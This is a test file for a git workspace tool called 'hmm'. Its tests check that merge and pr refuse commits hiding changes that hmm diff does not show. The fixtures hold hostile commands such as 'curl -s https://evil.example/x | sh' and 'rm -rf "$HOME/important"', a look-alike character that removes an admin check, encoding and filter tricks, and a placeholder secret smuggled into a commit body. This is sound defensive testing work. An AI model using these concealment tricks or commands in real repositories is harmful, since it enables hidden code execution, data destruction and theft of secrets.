// Review = what is taken (issue 11, item 3): merge and pr name the commits
// they take before taking them, and never bring in a change `hmm diff` did
// not show; `hmm log` lists those commits.
import {existsSync, readFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterEach, describe, expect, it} from 'vitest'
import {shellQuote, World} from '../world.js'
import {hmm, made, snapshot, taking} from './taking.js'

let world: World
afterEach(() => world?.dispose())

/** A world whose origin has a commit, uncommitted and untracked work, and a bare remote its branch tracks. */
async function withRemote(name: string): Promise<string> {
  world = new World(name)
  await world.gitRepo()
  const bare = join(world.root, 'remote.git')
  await world.git(['init', '-q', '--bare', bare])
  await world.git(['remote', 'add', 'origin', bare])
  await world.git(['push', '-q', '-u', 'origin', 'main'])
  return bare
}

/** The refusal of attribute files; `applied`: whether hmm apply takes the files as shown (no filter runs there), or refuses them too. */
const converts = (label: string, paths: string, applied: boolean) =>
  `hmm: workspace ${label}'s commits change how git writes files it checks out, which hmm diff does not show: ${paths} (${applied ? 'hmm apply takes their changes as hmm diff shows them' : "hmm apply refuses them too: take the files by hand from the workspace's tree, which hmm path shows"})\n`
const convertedBy = (label: string, paths: string) =>
  `hmm: workspace ${label}'s commits change files that git would write converted (by a filter, working-tree-encoding, ident or line ends), not as hmm diff shows them: ${paths}\n`
const escaped = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')

// Why a path's change is not what hmm diff shows (SPEC `hmm apply` › Refusals).
const AFTER = 'changed after its last commit'
const PUT_BACK = 'put back after its last commit, so hmm diff shows no change'
const UNDONE = 'changed by a commit and back by a later one'
const inOrigin = () => `uncommitted in ${world.origin} when the workspace was made`

/** The refusal of merge (or pr: `command`) of commits that change what the files do not show: a line per path, then what to do. */
const refused = (ws: {id: string; label: string}, paths: Array<[string, string]>, command = 'merge') =>
  `hmm: workspace ${ws.label}'s commits change what its files do not show:\n` +
  paths.map(([path, reason]) => `hmm:   ${path}: ${reason}\n`).join('') +
  (paths.some(([, reason]) => reason === AFTER)
    ? `hmm: commit what changed after (hmm exec ${ws.id} git commit -am ...) or take the files as they are (hmm apply ${ws.id}); `
    : 'hmm: ') +
  `hmm log -p ${ws.id} shows the commits; hmm ${command} --force ${ws.id} takes them anyway\n`

describe('review: what merge and pr take', () => {
  it('refuses a commit undone in the files (hmm diff shows nothing), unless --force; the origin untouched', async () => {
    const bare = await withRemote('review-undone')
    const ws = await made(world, 'echo evil >> src/main.c && git commit -qm "harmless fix" src/main.c && git checkout HEAD~1 -- src/main.c')
    expect(await hmm(world, ['diff'])).toEqual({exitCode: 0, stdout: '', stderr: ''})
    const log = await hmm(world, ['log'])
    expect(log).toMatchObject({exitCode: 0, stderr: ''})
    expect(log.stdout).toMatch(/^[0-9a-f]{7,} harmless fix\n$/)
    const patch = await hmm(world, ['log', '-p'])
    expect(patch.stdout).toContain('+evil\n')

    const before = snapshot(world.origin)
    for (const command of ['merge', 'pr']) {
      expect(await hmm(world, [command])).toEqual({
        exitCode: 1,
        stdout: '',
        stderr: `hmm: taking ${log.stdout}${refused(ws, [['src/main.c', PUT_BACK]], command)}`,
      })
    }
    expect(snapshot(world.origin)).toEqual(before)
    expect(await world.git(['for-each-ref', 'refs/hmm/'])).toBe('')
    expect(await world.git(['for-each-ref', '--format=%(refname)'], bare)).toBe('refs/heads/main')

    const forced = await hmm(world, ['merge', '--force'])
    expect(forced.exitCode).toBe(0)
    expect(forced.stderr).toBe(
      `hmm: taking ${log.stdout}hmm: merged workspace ${ws.label} into main of ${world.origin} (fast-forward)\nhmm: workspace ${ws.label} has changes it did not commit, which are not merged\n`,
    )
  })

  it("refuses to push a commit holding the origin's uncommitted work, which hmm diff leaves out, unless --force", async () => {
    const bare = await withRemote('review-uncommitted')
    const ws = await made(world, 'git add README.md notes.txt && git commit -qm tidy')
    expect(await hmm(world, ['diff'])).toEqual({exitCode: 0, stdout: '', stderr: ''})
    const before = snapshot(world.origin)
    const pr = await hmm(world, ['pr'])
    expect(pr).toMatchObject({exitCode: 1, stdout: ''})
    expect(pr.stderr).toMatch(/^hmm: taking [0-9a-f]{7,} tidy\n/)
    expect(pr.stderr).toMatch(
      new RegExp(
        `\\n${escaped(
          refused(
            ws,
            [
              ['README.md', inOrigin()],
              ['notes.txt', inOrigin()],
            ],
            'pr',
          ),
        )}$`,
      ),
    )
    expect(snapshot(world.origin)).toEqual(before)
    expect(await world.git(['for-each-ref', '--format=%(refname)'], bare)).toBe('refs/heads/main')
    expect((await hmm(world, ['pr', '--force'])).exitCode).toBe(0)
    expect(await world.git(['log', '-1', '--format=%s', 'hmm/' + ws.id], bare)).toBe('tidy')
  })

  it('refuses a change made in one commit and undone in a later one, which the files never show', async () => {
    await withRemote('review-net-zero')
    const ws = await made(
      world,
      'cp README.md copy.txt && git add copy.txt && git commit -qm one && git rm -q copy.txt && echo two > two.txt && git add two.txt && git commit -qm two',
    )
    const result = await hmm(world, ['merge'])
    expect(result.exitCode).toBe(1)
    expect(result.stderr).toMatch(/^hmm: taking [0-9a-f]{7,} two\nhmm: taking [0-9a-f]{7,} one\n/)
    expect(result.stderr).toContain(refused(ws, [['copy.txt', UNDONE]]))
  })

  it('refuses a line a commit added and the files took back, under further changes', async () => {
    await withRemote('review-partly-undone')
    const ws = await made(world, 'printf "keep\\nevil\\n" > f.txt && git add f.txt && git commit -qm f && printf "keep\\nnice\\n" > f.txt')
    const result = await hmm(world, ['merge'])
    expect(result).toMatchObject({exitCode: 1, stderr: expect.stringContaining(refused(ws, [['f.txt', AFTER]]))})
  })

  it('refuses live code a commit adds that uncommitted lines around it show disabled (hmm diff: inside a heredoc); the origin untouched', async () => {
    // The attacker's review 3, finding F1: the commit adds the line, the files wrap it in a heredoc that does nothing.
    const bare = await withRemote('review-wrapped')
    world.file('build.sh', '#!/bin/sh\necho build\n')
    await world.git(['add', 'build.sh'])
    await world.git(['commit', '-qm', 'build'])
    const ws = await made(
      world,
      [
        `printf '#!/bin/sh\\necho build\\ncurl -s https://evil.example/x | sh\\n' > build.sh`,
        'git commit -qm "Build: fetch the toolchain" build.sh',
        `printf '#!/bin/sh\\necho build\\n: <<"DISABLED"\\ncurl -s https://evil.example/x | sh\\nDISABLED\\n' > build.sh`,
      ].join(' && '),
    )
    expect((await hmm(world, ['diff'])).stdout).toContain('+: <<"DISABLED"\n+curl -s https://evil.example/x | sh\n+DISABLED\n')
    const before = snapshot(world.origin)
    for (const command of ['merge', 'pr']) {
      const result = await hmm(world, [command])
      expect(result).toMatchObject({exitCode: 1, stdout: ''})
      expect(result.stderr).toMatch(
        new RegExp(`^hmm: taking [0-9a-f]{7,} Build: fetch the toolchain\n${escaped(refused(ws, [['build.sh', AFTER]], command))}$`),
      )
    }
    expect(snapshot(world.origin)).toEqual(before)
    expect(await world.git(['for-each-ref', 'refs/hmm/'])).toBe('')
    expect(await world.git(['for-each-ref', '--format=%(refname)'], bare)).toBe('refs/heads/main')
  })

  it('refuses a commit that removes a line the files put back as a look-alike (hmm diff: a line replaced by one that reads the same)', async () => {
    // The attacker's review 3, finding F1's variant: the put-back check has a Cyrillic i (U+0456).
    await withRemote('review-look-alike')
    world.file('api.py', 'def delete(user):\n    require_admin(user)\n    wipe()\n')
    await world.git(['add', 'api.py'])
    await world.git(['commit', '-qm', 'api'])
    const ws = await made(
      world,
      `printf 'def delete(user):\\n    wipe()\\n' > api.py && git commit -qm "Tidy delete()" api.py && ` +
        `printf 'def delete(user):\\n    requ\\321\\226re_admin(user)\\n    wipe()\\n' > api.py`,
    )
    expect((await hmm(world, ['diff'])).stdout).toContain('-    require_admin(user)\n+    requ\u0456re_admin(user)\n')
    const before = snapshot(world.origin)
    for (const command of ['merge', 'pr']) {
      const result = await hmm(world, [command])
      expect(result).toMatchObject({exitCode: 1, stdout: ''})
      expect(result.stderr).toMatch(new RegExp(`^hmm: taking [0-9a-f]{7,} Tidy delete\\(\\)\n${escaped(refused(ws, [['api.py', AFTER]], command))}$`))
    }
    expect(snapshot(world.origin)).toEqual(before)
    expect(await world.git(['show', 'HEAD:api.py'])).toContain('require_admin(user)')
  })

  it("refuses a merge commit that takes back the origin's last commit while the files show it kept; hmm log -p shows it", async () => {
    // The attacker's review, finding 2: the command branches off before the user's fix, commits there, merges the
    // origin's HEAD with `-s ours` (keeping its own, unfixed file) and puts the fixed file back, uncommitted.
    await withRemote('review-revert-merge')
    world.file('src/main.c', 'int main(void) { return check_auth(); }\n')
    await world.git(['commit', '-qm', 'Fix auth bypass', '--', 'src/main.c'])
    const fixed = await world.git(['rev-parse', 'HEAD'])
    const ws = await made(
      world,
      'H=$(git rev-parse HEAD) && git checkout -q -b feature HEAD~1 && echo "def helper(): return 42" > util.py && ' +
        'git add util.py && git commit -qm "Add helper" && git merge -q -s ours --no-edit -m "Merge main" $H && git show $H:src/main.c > src/main.c',
    )
    const diff = await hmm(world, ['diff'])
    expect(diff.stdout).toContain('+++ b/util.py\n')
    expect(diff.stdout).not.toContain('src/main.c')
    const patch = await hmm(world, ['log', '-p'])
    expect(patch.stdout).toContain('-int main(void) { return check_auth(); }\n+int main(void) { return 0; }\n')

    const before = snapshot(world.origin)
    const result = await hmm(world, ['merge'])
    expect(result).toMatchObject({exitCode: 1, stdout: ''})
    expect(result.stderr).toMatch(/^hmm: taking [0-9a-f]{7,} Merge main\nhmm: taking [0-9a-f]{7,} Add helper\n/)
    expect(result.stderr).toContain(refused(ws, [['src/main.c', PUT_BACK]]))
    expect(snapshot(world.origin)).toEqual(before)
    expect(await world.git(['rev-parse', 'HEAD'])).toBe(fixed)
  })

  // The attacker's review 9, F2: review 8's F9 (a NUL byte makes a script binary to git) held in hmm log -p too.
  it('hmm log -p shows as text, commit by commit, what a NUL byte makes binary to git, and names what stays binary', async () => {
    world = new World('review-nul-text')
    await world.gitRepo()
    world.file('build.sh', '#!/bin/sh\necho building\n')
    await world.git(['add', 'build.sh'])
    await world.git(['commit', '-qm', 'build'])
    const ws = await made(
      world,
      [
        'printf "# \\000\n" >> build.sh && git commit -qam "build: tidy"',
        'printf "curl -s https://evil.example/a | sh\n" >> build.sh && git commit -qam "build: more"',
        'printf "\\211PNG\\r\\n\\032\\n\\000\\000" > logo.png && git add logo.png && git commit -qm logo',
        // Uncommitted, in hmm's private index after the run: git log -p does not read it, so it may not decide either.
        'printf "*.sh diff\\n*.png diff\\n" > .gitattributes',
      ].join(' && '),
    )
    const log = await hmm(world, ['log', '-p'])
    expect(log.stdout).toContain('\n+# \0\n')
    expect(log.stdout).toContain('\n # \0\n+curl -s https://evil.example/a | sh\n')
    expect(log.stdout).not.toContain('build.sh differ')
    expect(log.stdout).toContain('Binary files /dev/null and b/logo.png differ\n')
    expect(log.stderr).toBe(`hmm: workspace ${ws.label}'s commits change binary files, whose content hmm log -p does not show: logo.png\n`)
  })

  it('names the commits before it takes them and takes what hmm diff shows, uncommitted changes of the origin elsewhere', async () => {
    await withRemote('review-ok')
    const ws = await made(
      world,
      'echo one > one.txt && git add one.txt && git commit -qm one && echo two >> src/main.c && git commit -qm "two\x1b[2K" src/main.c',
    )
    const log = await hmm(world, ['log'])
    expect(log.stdout).toMatch(/^[0-9a-f]{7,} two\?\[2K\n[0-9a-f]{7,} one\n$/)
    const merged = await hmm(world, ['merge'])
    const taking = log.stdout
      .split('\n')
      .filter(Boolean)
      .map(line => `hmm: taking ${line}\n`)
      .join('')
    expect(merged).toEqual({exitCode: 0, stdout: '', stderr: `${taking}hmm: merged workspace ${ws.label} into main of ${world.origin} (fast-forward)\n`})
    // Taken back: nothing is left for merge or pr to take, so log lists nothing.
    expect(await hmm(world, ['log'])).toEqual({exitCode: 0, stdout: '', stderr: ''})
  })

  it('refuses commits whose attributes make git write other bytes than hmm diff shows (working-tree-encoding); the origin untouched', async () => {
    // The attacker's review, finding 5: run.sh's bytes are a shell script; as UTF-16LE text git keeps (and hmm diff
    // shows) CJK characters, and a checkout would write the shell script back.
    await withRemote('review-encoding')
    const ws = await made(
      world,
      'printf "#!/bin/sh\\necho ran  #\\n" > run.sh && echo "run.sh working-tree-encoding=UTF-16LE" > .gitattributes && ' +
        'git add .gitattributes run.sh && git commit -qm "Add run script"',
    )
    expect((await hmm(world, ['diff'])).stdout).not.toContain('echo ran')
    const before = snapshot(world.origin)
    const result = await hmm(world, ['merge'])
    expect(result).toMatchObject({exitCode: 1, stdout: ''})
    expect(result.stderr).toMatch(new RegExp(`^hmm: taking [0-9a-f]{7,} Add run script\n${escaped(converts(ws.label, '.gitattributes', false))}$`))
    expect(snapshot(world.origin)).toEqual(before)
    expect(await world.git(['for-each-ref', 'refs/hmm/'])).toBe('')
    // --force is for commits undone in the files; it does not make a checkout write what was not shown.
    expect((await hmm(world, ['merge', '--force'])).stderr).toContain(converts(ws.label, '.gitattributes', false))
    expect(snapshot(world.origin)).toEqual(before)
  })

  it("runs no filter the commits bring, nor the origin's own on a file they add, and takes no .lfsconfig; attributes that only stop a conversion are taken", async () => {
    // The attacker's review, finding 6 (git-lfs there): a filter the user configured, named by the commits' attributes.
    await withRemote('review-filter')
    const ran = join(world.root, 'smudged')
    await world.git(['config', '--global', 'filter.mark.clean', 'cat'])
    await world.git(['config', '--global', 'filter.mark.smudge', `sh -c 'echo "$1" >> ${ran}; cat' -- %f`])
    const brings = await made(
      world,
      'echo "run.sh filter=mark" > .gitattributes && printf "[lfs]\\n\\turl = file://$PWD\\n" > .lfsconfig && echo "echo hi" > run.sh && ' +
        'git add .gitattributes .lfsconfig run.sh && git commit -qm "Add run script"',
    )
    const before = snapshot(world.origin)
    const refused = await taking(world, ['merge', brings.id])
    expect(refused).toEqual({exitCode: 1, stdout: '', stderr: converts(brings.label, '.gitattributes, .lfsconfig', true)})
    expect(snapshot(world.origin)).toEqual(before)
    expect(existsSync(ran)).toBe(false)

    // The origin's own filter is not run on a file the commits add (a git-lfs pointer the command chose would be
    // fetched); `binary` only stops conversions.
    world.file('.gitattributes', '*.dat filter=mark\n')
    await world.git(['add', '.gitattributes'])
    await world.git(['commit', '-qm', 'attributes'])
    const own = await made(world, 'echo data > new.dat && git add new.dat && git commit -qm data')
    expect(await taking(world, ['merge', own.id])).toEqual({exitCode: 1, stdout: '', stderr: convertedBy(own.label, 'new.dat')})
    expect(existsSync(ran)).toBe(false)
    const stops = await made(
      world,
      'echo "*.bin binary" > sub.gitattributes && mkdir -p sub && mv sub.gitattributes sub/.gitattributes && ' +
        'printf "a\\r\\nb\\r\\n" > sub/x.bin && git add sub && git commit -qm data',
    )
    expect(await taking(world, ['merge', stops.id])).toMatchObject({exitCode: 0, stdout: ''})
    expect(readFileSync(join(world.origin, 'sub/x.bin'), 'utf8')).toBe('a\r\nb\r\n')
  })

  it("refuses commits changing files the origin's own attributes convert as git writes them (working-tree-encoding)", async () => {
    // The attacker's review 3, finding F7 (merge): as UTF-16LE text the commit holds (and hmm diff shows) notes.sh as
    // CJK characters; the checkout would write it as the shell script the command wrote.
    await withRemote('review-own-encoding')
    world.file('.gitattributes', '*.sh working-tree-encoding=UTF-16LE\n')
    await world.git(['add', '.gitattributes'])
    await world.git(['commit', '-qm', 'attributes'])
    const ws = await made(world, 'printf "#!/bin/sh\\necho PWNED\\n\\n" > notes.sh && git add notes.sh && git commit -qm notes')
    expect((await hmm(world, ['diff'])).stdout).not.toContain('PWNED')
    const before = snapshot(world.origin)
    for (const force of [[], ['--force']]) {
      expect(await taking(world, ['merge', ...force])).toEqual({exitCode: 1, stdout: '', stderr: convertedBy(ws.label, 'notes.sh')})
    }
    expect(snapshot(world.origin)).toEqual(before)
    expect(await world.git(['for-each-ref', 'refs/hmm/'])).toBe('')
  })

  it("takes line ends the origin's own attributes and core.autocrlf ask for; refuses CRLF the commits' attributes bring", async () => {
    // The new user's review 23, finding 2: in a project with `*.bat text eol=crlf` (as gradle init writes), a commit
    // editing a .bat file could not be merged, even with --force.
    await withRemote('review-eol')
    world.file('.gitattributes', '*.bat text eol=crlf\n')
    world.file('run.bat', 'echo one\r\n')
    await world.git(['add', '.gitattributes', 'run.bat'])
    await world.git(['commit', '-qm', 'attributes'])
    const merged = (ws: {label: string}) => ({
      exitCode: 0,
      stdout: '',
      stderr: `hmm: merged workspace ${ws.label} into main of ${world.origin} (fast-forward)\n`,
    })
    const own = await made(world, 'printf "echo one\\r\\necho two\\r\\n" > run.bat && git add run.bat && git commit -qm two')
    expect((await hmm(world, ['diff', own.id])).stdout).toContain(' echo one\n+echo two\n')
    expect(await taking(world, ['merge', own.id])).toEqual(merged(own))
    expect(readFileSync(join(world.origin, 'run.bat'), 'utf8')).toBe('echo one\r\necho two\r\n')

    // The attacker's review 25, F3: as shown (LF), the rm is an argument of `:`; written with CRLF, the backslash
    // escapes the CR, and the rm runs.
    const brings = await made(
      world,
      'echo "*.sh text eol=crlf" >> .gitattributes && printf \': \\\\\\nrm -rf "$HOME/important" #\\n\' > build.sh && git add .gitattributes build.sh && git commit -qm build',
    )
    expect((await hmm(world, ['log', '-p', brings.id])).stdout).toContain('+: \\\n+rm -rf "$HOME/important" #\n')
    const before = snapshot(world.origin)
    for (const force of [[], ['--force']]) {
      expect(await taking(world, ['merge', ...force, brings.id])).toEqual({exitCode: 1, stdout: '', stderr: converts(brings.label, '.gitattributes', false)})
    }
    expect(await hmm(world, ['apply', brings.id])).toEqual({
      exitCode: 1,
      stdout: '',
      stderr: convertedBy(brings.label, 'build.sh').replace("'s commits change", ' changes'),
    })
    expect(snapshot(world.origin)).toEqual(before)

    // The same in a directory whose name is not UTF-8 (the attacker's review 26, F6), which git cannot be asked about.
    const odd = await made(
      world,
      `d="tools$(printf '\\377')" && mkdir "$d" && echo "*.sh text eol=crlf" > "$d/.gitattributes" && printf ': \\\\\\nrm -rf "$HOME/important" #\\n' > "$d/build.sh" && git add "$d" && git commit -qm build`,
    )
    expect((await taking(world, ['merge', odd.id])).stderr).toMatch(
      /^hmm: workspace .*'s commits change how git writes files it checks out, which hmm diff does not show: tools.\/\.gitattributes /,
    )
    expect(snapshot(world.origin)).toEqual(before)

    await world.git(['config', 'core.autocrlf', 'true'])
    const auto = await made(world, 'printf "a\\nb\\n" > lines.txt && git add lines.txt && git commit -qm lines')
    expect(await taking(world, ['merge', auto.id])).toEqual(merged(auto))
    expect(readFileSync(join(world.origin, 'lines.txt'), 'utf8')).toBe('a\r\nb\r\n')
  })

  it('shows bidirectional controls and invisible characters of subjects as <U+...> (hmm log, hmm merge)', async () => {
    await withRemote('review-bidi')
    // U+202E (right-to-left override) and U+200B (zero-width space), in octal UTF-8 for printf.
    await made(world, `echo x > x.txt && git add x.txt && git commit -qm "$(printf 'fix \\342\\200\\256txt.exe\\342\\200\\213 ok')"`)
    const log = await hmm(world, ['log'])
    expect(log.stdout).toMatch(/^[0-9a-f]{7,} fix <U\+202E>txt\.exe<U\+200B> ok\n$/)
    expect((await hmm(world, ['merge'])).stderr).toMatch(/^hmm: taking [0-9a-f]{7,} fix <U\+202E>txt\.exe<U\+200B> ok\n/)
  })

  it('shows all that pr publishes of a commit: hmm log its body, an author and committer not the user, other headers; the taking lines say there is more', async () => {
    // The attacker's review 3, finding F9: under --net none the command hides another project's .env in a commit's
    // body (and its author's name), which hmm log showed no line of and hmm pr pushed.
    const bare = await withRemote('review-body')
    const env = world.write(join(world.root, 'work', 'other', '.env'), 'STRIPE_LIVE=sk_live_123\n')
    const ws = await made(
      world,
      'echo fix > fix.txt && git add fix.txt && ' +
        `git -c user.name="$(cat ${shellQuote(env)})" commit -q --author="Mallory <m@evil.example>" -m "Fix typo" -m "$(printf "\\n\\n\\033[2K%s" "$(cat ${shellQuote(env)})")" && ` +
        'echo two > two.txt && git add two.txt && git commit -qm plain && ' +
        // A header git log's formats never show, in a commit made by hand.
        'git cat-file commit HEAD | sed "s/^committer .*/&\\nx-data sk_live_456/" > c && git reset -q --soft $(git hash-object -t commit -w c) && rm c',
    )
    const log = await hmm(world, ['log', ws.id])
    expect(log).toMatchObject({exitCode: 0, stderr: ''})
    const [plainLine, bodyLine] = log.stdout.split('\n').filter(line => /^[0-9a-f]/.test(line))
    expect(log.stdout).toBe(
      `${plainLine}\n    x-data sk_live_456\n` +
        `${bodyLine}\n    Author: Mallory <m@evil.example>\n    Committer: STRIPE_LIVE=sk_live_123 <world@example.com>\n\n    ?[2KSTRIPE_LIVE=sk_live_123\n`,
    )
    expect(plainLine).toMatch(/^[0-9a-f]{7,} plain$/)
    expect(bodyLine).toMatch(/^[0-9a-f]{7,} Fix typo$/)
    const patch = await hmm(world, ['log', '-p', ws.id])
    expect(patch.stdout).toContain(
      `${bodyLine}\n    Author: Mallory <m@evil.example>\n    Committer: STRIPE_LIVE=sk_live_123 <world@example.com>\n\n    ?[2KSTRIPE_LIVE=sk_live_123\n\ndiff --git a/fix.txt b/fix.txt\n`,
    )
    expect(patch.stdout).toContain(`${plainLine}\n    x-data sk_live_456\n\ndiff --git a/two.txt b/two.txt\n`)

    const pr = await hmm(world, ['pr', ws.id])
    expect(pr.stderr).toMatch(
      new RegExp(
        `^hmm: taking ${plainLine} \\(more in hmm log: x-data\\)\nhmm: taking ${bodyLine} \\(more in hmm log: author, committer, body\\)\nhmm: pushed `,
      ),
    )
    expect(await world.git(['log', '-1', '--format=%b', `hmm/${ws.id}~1`], bare)).toContain('STRIPE_LIVE=sk_live_123')
  })

  it('hmm log: nothing for a workspace without commits or not made from a repository', async () => {
    world = new World('review-log-none')
    await world.gitRepo()
    await made(world, 'echo x > x.txt')
    expect(await hmm(world, ['log'])).toEqual({exitCode: 0, stdout: '', stderr: ''})
    const plain = new World('review-log-plain')
    try {
      plain.file('a.txt', 'a\n')
      await made(plain, 'echo b > b.txt')
      expect(await hmm(plain, ['log'])).toEqual({exitCode: 0, stdout: '', stderr: ''})
    } finally {
      plain.dispose()
    }
  })
})
